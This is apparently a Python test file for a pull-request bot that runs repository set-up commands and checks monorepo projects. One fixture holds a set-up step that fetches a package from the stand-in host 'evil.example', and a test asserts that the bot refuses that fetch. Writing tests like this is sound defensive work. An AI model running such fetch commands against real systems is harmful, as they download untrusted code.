"""What makes a repository runnable: set-up commands and projects, as people meet them on a pull request. No model is called."""

from bot.core.proofs.model import Verification
from bot.reporting.happenings import happening
from bot.workflows.notes import find
from tests.stories.moments import asked
from tests.support.stage import BASE, Stage, never

CONFIG = "implement: none\nenvironment:\n  requirements: []\n"

FETCH = """
  setup:
    - echo about to fetch
    - python3 -c "import urllib.request as u; u.urlopen('http://evil.example/pkg')"
"""

PROJECTS = """
  projects:
    - path: lib
      setup: mkdir parts && echo "greeting = 'hello'" > parts/words.py
      test: python3 -c "import words; assert words.greeting" && test -f greet.py
    - {path: other, test: "false"}
  variables: {PYTHONPATH: lib/parts:parts}
"""

SPEC = """\
---
status: ready
---

# Greet people by name

## Acceptance criteria

- **AC-1** The greeting names the person.

  ```sh verify
  cd lib && python3 -c "from greet import greet; assert greet('Ada') == 'hello Ada'"
  ```
"""


def test_a_set_up_that_fails_is_no_evidence_with_its_words_and_what_was_refused():
    with Stage(never, base={**BASE, ".github/specbot.yml": CONFIG + FETCH}) as stage, stage.worker():
        pull = stage.open()
        stage.settled(pull)
        assert stage.acceptance(pull) == "action_required"
        output = stage.checks(stage.head(pull))[-1].output
        said = f"{output.title}\n{output.summary}\n{output.text}"
        assert "about to fetch" in said
        assert "refused: evil.example:80 is not among the allowed hosts" in said
        assert "environment.hosts" in said
        assert stage.executions() == 0
        assert asked(stage) == []


def test_a_project_of_a_monorepo_is_set_up_and_its_tests_are_kept():
    base = {
        ".github/specbot.yml": CONFIG + PROJECTS,
        "lib/greet.py": "def greet(name):\n    return ''\n",
        "other/a": "",
    }
    good = "from words import greeting\n\n\ndef greet(name):\n    return f'{greeting} {name}'\n"
    with Stage(never, base=base) as stage, stage.worker():
        pull = stage.open(SPEC, {"lib/greet.py": good, "lib/requirements.txt": "requests\n"})
        stage.settled(pull)
        assert stage.acceptance(pull) == "success"
        assert stage.title(pull) == "2 of 2 criteria done: 1 proven, 1 kept"
        text = stage.checks(stage.head(pull))[-1].output.text or ""
        assert "project-1" in text
        assert "cd lib || exit 2\npython3" in text
        [run] = stage.runs_at(pull)
        assert OF_THE_BASE in log(stage, run)

        head = stage.head(pull)[:7]
        stage.say(pull, f"/specbot approve environment {head}")
        stage.until(lambda: len(stage.runs_at(pull)) == 2, "the second run")
        stage.settled(pull)
        assert stage.acceptance(pull) == "success"
        again = stage.runs_at(pull)[-1]
        assert OF_THE_BASE not in log(stage, again)
        first, second = (find(stage.house, one.run_id, Verification) for one in (run, again))
        assert first
        assert second
        assert first.environment != second.environment


OF_THE_BASE = "1 manifest or lock file changed; proven in the base's environment"


def log(stage, run):
    return "\n".join(told.line for event in stage.store.events(run.run_id) if (told := happening(event)))
